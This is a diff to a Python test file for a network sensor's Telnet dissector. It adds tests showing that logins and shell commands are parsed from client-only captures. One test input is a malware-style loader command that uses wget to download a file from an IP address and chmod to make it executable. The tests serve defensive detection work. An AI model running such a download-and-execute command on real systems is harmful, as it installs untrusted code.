@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import pytest
 
+from sensor.core.batch import Problem
 from sensor.core.packet import Packet
 from sensor.core.reader import Malformed
 from sensor.dissectors.shared.seal import seal
@@ -105,6 +106,24 @@ def test_what_else_is_typed_stays_unsaid() -> None:
     list(stream.feed(packet, b"wg", True))
     list(stream.gap(packet, 3, True))
     assert events(stream.feed(packet, b"http://a/b\r\nls\r\ncat /etc/config\r\n", True)) == []
+
+
+def one_way(*typed: bytes) -> list[object]:
+    """What a client sends, in a capture without packets of the server."""
+    stream, packet = Telnet().stream(Packet()), Packet(proto=6, problem=Problem.ONE_SIDED)
+    return events([parsed for data in typed for parsed in stream.feed(packet, data, True)])
+
+
+def test_logins_without_the_server() -> None:
+    """The first two lines, and each repetition of the user with the line after it; shell input is read as ever."""
+    login = [("TelnetLogin", "root", True, "undecided", seal("root", word)) for word in (b"one", b"two", b"three")]
+    assert one_way(b"root\r\n", b"one\r\n", b"\r\n", b"root\r\n", b"two\r\n", b"root\r\0three\r\0") == login
+    loader = b"wget http://203.0.113.9/l -O l; chmod 777 l"
+    assert one_way(b"root\r\n", b"one\r\n", b"ls -l\r\n", loader + b"\r\n") == [
+        login[0],
+        ("TelnetCommand", loader.decode()),
+    ]
+    assert one_way(b"show version\r\n", b"show run\r\n", b"\r\n") == []
 
 
 def test_listening_ends() -> None:
